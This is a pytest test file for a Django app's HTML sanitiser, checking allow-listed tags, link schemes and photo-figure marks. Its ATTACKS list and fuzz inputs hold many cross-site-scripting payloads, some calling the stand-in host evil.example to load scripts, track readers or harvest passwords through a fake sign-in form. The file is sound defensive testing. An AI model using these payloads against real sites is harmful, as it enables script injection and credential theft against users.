"""What is kept of rich text: only the tags, attributes and addresses of the allow-list."""

from html.parser import HTMLParser

import pytest
from django import forms
from hypothesis import given
from hypothesis import strategies as st

from network.models import CaseStudy
from network.models.prose import ATTRIBUTES, LONGEST, TAGS, placed_photos, plain_text, sanitised
from tests.factories import make_case_study

VOID = {"br", "hr"}
SAFE_SCHEMES = ("http:", "https:", "mailto:", "tel:")


class Reader(HTMLParser):
    """Notes whatever a browser could take for an element, an attribute or an address."""

    def __init__(self):
        super().__init__()
        self.tags, self.attributes, self.addresses, self.rels = set(), set(), [], []

    def handle_starttag(self, tag, attributes):
        self.tags.add(tag)
        for name, value in attributes:
            self.attributes.add((tag, name))
            if name == "href":
                self.addresses.append(value)
                self.rels.append(dict(attributes).get("rel"))


def read(html):
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader


def assert_safe(html):
    reader = read(html)
    assert reader.tags <= TAGS
    allowed = {(tag, name) for tag, names in ATTRIBUTES.items() for name in names}
    assert reader.attributes <= allowed | {("a", "rel")}
    assert set(reader.rels) <= {"nofollow noopener ugc"}
    for address in reader.addresses:
        before = address.split(":")[0] if ":" in address else ""
        relative = not before or any(mark in before for mark in "/?#")
        assert relative or address.lower().startswith(SAFE_SCHEMES)


ATTACKS = [
    "<script>alert(1)</script>",
    "<p>a<script src=https://evil.example/x.js></script></p>",
    "<scr<script>ipt>alert(1)</script>",
    "<p onclick=alert(1)>a</p>",
    '<p onmouseover="alert(1)" style="position:fixed">a</p>',
    '<a href="javascript:alert(1)">a</a>',
    '<a href="JaVaScRiPt:alert(1)">a</a>',
    '<a href="java&#x0A;script:alert(1)">a</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>',
    '<a href="\x01javascript:alert(1)">a</a>',
    '<a href=" javascript:alert(1)">a</a>',
    '<a href="java\tscript:alert(1)">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
    '<a href="https://a.example" target="_blank" rel="opener">a</a>',
    '<a href="https://a.example" ping="https://evil.example">a</a>',
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/counter.gif">',
    '<figure><img src="https://evil.example/counter.gif"><figcaption>a</figcaption></figure>',
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>a</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror=alert(1)>'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x><applet code=x></applet>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>a</details>",
    "<p id=main class=error-summary data-htmx hx-get=/x name=x>a</p>",
    "<td colspan=100000 style=x background=https://evil.example>a</td>",
    "<!--<img src=--><img src=x onerror=alert(1)//>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><p>a</p>",
    "<p><a href='https://a.example'><a href='javascript:alert(1)'>a</a></a></p>",
    "<h1 onclick=alert(1)>a</h1><b onclick=alert(1)>a</b><i style=x>a</i>",
    "<b<script>alert(1)</script>>a</b>",
    "<i/onmouseover=alert(1)>a</i>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_leaves_more_than_the_allow_list(attack):
    assert_safe(sanitised(attack))
    assert_safe(sanitised(f"<p>before</p>{attack}<p>after</p>"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_rides_on_a_figure(attack):
    mark = '<p>x</p><figure data-photo="1">'
    for text in (f"{mark}{attack}</figure>", f"{attack}{mark}"):
        clean = sanitised(text, figures=True)
        assert_safe(clean)
        assert sanitised(clean, figures=True) == clean


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_is_kept_stays_as_it_is_when_saved_again(attack):
    once = sanitised(f"<p>x</p>{attack}")
    assert sanitised(once) == once


MARKUP = st.sampled_from(
    ["<", ">", "</", "/>", '"', "'", "=", " ", "&lt;", "&#x3c;", "<!--", "-->", "<p>", "</p>"]
    + ["<script>", "</script>", "<style>", "<svg>", "<math>", "<a href=", "javascript:", "data:"]
    + ["onerror=", "<img ", "<table>", "<td ", "colspan=", "<noscript>", "<template>", "<b>", "<h1"]
    + ['<figure data-photo="1">', "</figure>", "<figure ", "data-photo=", "<strong>", "</strong>"]
)


@given(st.lists(st.one_of(MARKUP, st.text(max_size=6)), max_size=30).map("".join))
def test_nothing_that_can_be_typed_is_unsafe(text):
    assert_safe(sanitised(text))
    clean = sanitised(text, figures=True)
    assert_safe(clean)
    assert clean.count("<figure") == clean.count("</figure>") == len(placed_photos(clean))


@given(st.text(max_size=300))
def test_plain_words_are_never_lost(text):
    words = "".join(char for char in text if char.isalnum())
    assert "".join(char for char in plain_text(sanitised(words)) if char.isalnum()) == words


def test_what_the_editor_writes_is_kept():
    html = (
        "<h2>A</h2><h3>B</h3><p>one <strong>two</strong> <em>three</em><br>four</p>"
        "<ul><li><p>x</p></li></ul><ol><li><p>y</p></li></ol><blockquote><p>z</p></blockquote><hr>"
        '<table><tbody><tr><th colspan="2"><p>h</p></th></tr><tr><td><p>c</p></td></tr></tbody>'
        "</table>"
    )
    assert sanitised(html) == html


ONE = '<figure data-photo="1"></figure>'
TWO = '<figure data-photo="2"></figure>'


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        (f"<p>a</p>{ONE}<p>b</p>", f"<p>a</p>{ONE}<p>b</p>"),
        (ONE, ONE),
        ("<FIGURE DATA-PHOTO='1' ></FIGURE >", ONE),
        ('<figure data-photo="007"></figure>', '<figure data-photo="7"></figure>'),
        ('<figure class="x" id="main" style="y" data-photo="1" onclick="z()"></figure>', ONE),
        (
            '<figure data-photo="1"><img src="https://evil.example/x.gif"><p>a</p></figure>',
            f"{ONE}<p>a</p>",
        ),
        ('<figure data-photo="1"><figure data-photo="2"></figure></figure>', f"{ONE}{TWO}"),
        ('<figure><figure data-photo="1"></figure><p>a</p></figure>', f"{ONE}<p>a</p>"),
        ('<p>a<figure data-photo="1">b</p><p>c</p>', f"<p>a</p>{ONE}b<p></p><p>c</p>"),
        (f"<h2>a{ONE}b</h2>", f"<h2>ab</h2>{ONE}"),
        (f"<strong>a<em>{ONE}{TWO}</em></strong>b", f"<strong>a<em></em></strong>{ONE}{TWO}b"),
        (f"<p>a</p>{ONE}{TWO}{ONE}", f"<p>a</p>{ONE}{TWO}"),
        (f"<ul><li><p>a</p>{ONE}</li></ul>", f"<ul><li><p>a</p>{ONE}</li></ul>"),
        (f"One.\n\n{ONE}\n\nTwo < three.", f"<p>One.</p>{ONE}<p>Two &lt; three.</p>"),
    ],
)
def test_a_figure_is_an_empty_mark_for_one_photo(sent, kept):
    assert sanitised(sent, figures=True) == kept
    assert sanitised(kept, figures=True) == kept


@pytest.mark.parametrize(
    "number",
    ["", "0", "-1", "1.5", "1e3", "x", "١", "1 2", "1&quot;", str(2**63), "9" * 400, "0x1F"],
)
def test_a_figure_without_the_number_of_a_photo_goes(number):
    sent = f'<p>a</p><figure data-photo="{number}">b</figure>'
    assert sanitised(sent, figures=True) == "<p>a</p>b"


def test_figures_stay_only_where_they_are_shown():
    assert sanitised(f"<p>a</p>{ONE}") == "<p>a</p>"
    assert sanitised(ONE) == ""


def test_a_figure_has_no_words():
    assert plain_text(f"<p>a</p>{ONE}<p>b</p>") == "a b"
    assert placed_photos(f"<p>a</p>{ONE}{TWO}") == {1, 2}


def test_a_figure_in_the_words_of_an_attribute_is_none():
    clean = sanitised("<a title='<figure data-photo=\"1\"></figure>' href='/'>a</a>", figures=True)
    assert placed_photos(clean) == set()
    assert_safe(clean)


def test_browsers_do_not_cut_off_what_is_pasted():
    field = CaseStudy._meta.get_field("body").formfield()
    shown = str(forms.Form.__class__("F", (forms.Form,), {"body": field})()["body"])
    assert "maxlength" not in shown
    assert f'data-longest="{LONGEST}"' in shown


def test_a_link_keeps_its_address_and_says_that_it_is_a_readers():
    assert sanitised('<p><a href="https://a.example/?b=1&c=2">x</a></p>') == (
        '<p><a href="https://a.example/?b=1&amp;c=2" rel="nofollow noopener ugc">x</a></p>'
    )


@pytest.mark.parametrize(
    "address", ["/events/launch/", "#comments", "mailto:a@b.example", "tel:+44"]
)
def test_links_within_the_site_and_to_mail_and_phone_are_kept(address):
    assert f'href="{address}"' in sanitised(f'<p><a href="{address}">x</a></p>')


def test_other_tags_for_the_same_meaning_become_ours():
    assert sanitised("<h1>A</h1><p><b>b</b> <I>c</I></p><h6>d</h6>") == (
        "<h2>A</h2><p><strong>b</strong> <em>c</em></p><h4>d</h4>"
    )


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("one\n\ntwo\nthree", "<p>one</p>\n\n<p>two<br>three</p>"),
        ("if x < 3 & y > 4", "<p>if x &lt; 3 &amp; y &gt; 4</p>"),
        ("x <y then", "<p>x &lt;y then</p>"),
        ("a <3 b", "<p>a &lt;3 b</p>"),
    ],
)
def test_plain_text_becomes_paragraphs(typed, kept):
    assert sanitised(typed) == kept


@pytest.mark.parametrize(
    "nothing", ["", "  \n ", "<p></p>", "<p> </p>", "<p>&nbsp;</p>", "<p><br></p>", "<hr>"]
)
def test_text_without_a_word_is_empty(nothing):
    assert sanitised(nothing) == ""


def test_right_to_left_text_and_emoji_are_kept():
    assert sanitised("<p>שלום 👩🏽‍🦽 ليلى</p>") == "<p>שלום 👩🏽‍🦽 ليلى</p>"


def test_a_form_sanitises_what_it_is_sent(amina_client, amina):
    study = make_case_study(amina, published=False)
    sent = {"title": study.title, "body": "<p>yes</p><script>no()</script>"}
    amina_client.post(study.get_edit_url(), sent)
    study.refresh_from_db()
    assert study.body == "<p>yes</p>"


def test_more_than_we_keep_is_told_and_nothing_is_cut_off(amina_client, amina):
    study = make_case_study(amina, published=False)
    before = study.body
    page = amina_client.post(
        study.get_edit_url(), {"title": study.title, "body": "é" * (LONGEST + 1)}
    )
    study.refresh_from_db()
    assert study.body == before
    assert "at most 200000 characters" in page.text
    assert "é" * (LONGEST + 1) in page.text
